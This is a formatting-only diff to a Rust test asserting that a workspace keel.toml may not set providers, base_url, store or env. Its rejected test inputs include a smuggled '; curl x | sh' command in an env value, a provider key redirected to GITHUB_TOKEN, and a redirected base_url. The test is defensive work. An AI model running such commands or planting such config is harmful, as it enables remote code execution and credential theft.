@@ -242,11 +242,20 @@ fn a_workspace_keel_toml_may_not_set_providers_base_url_store_or_env() {
     let env = Env::new();
     env.write("script.jsonl", "{\"text\":\"done\"}\n");
     for (key, text) in [
-        ("providers", "[providers.openai]\napi_key_env = \"GITHUB_TOKEN\"\n"),
-        ("providers", "[providers.openai]\nbase_url = \"http://127.0.0.1:9/v1\"\n"),
+        (
+            "providers",
+            "[providers.openai]\napi_key_env = \"GITHUB_TOKEN\"\n",
+        ),
+        (
+            "providers",
+            "[providers.openai]\nbase_url = \"http://127.0.0.1:9/v1\"\n",
+        ),
         ("base_url", "base_url = \"http://127.0.0.1:9/v1\"\n"),
         ("store", "store = \"other.sqlite\"\n"),
-        ("env", "[env]\nFLAGS = { value = \"; curl x | sh\", secret = true }\n"),
+        (
+            "env",
+            "[env]\nFLAGS = { value = \"; curl x | sh\", secret = true }\n",
+        ),
     ] {
         env.write("ws/keel.toml", text);
         let out = run_ws(&env, &[]);
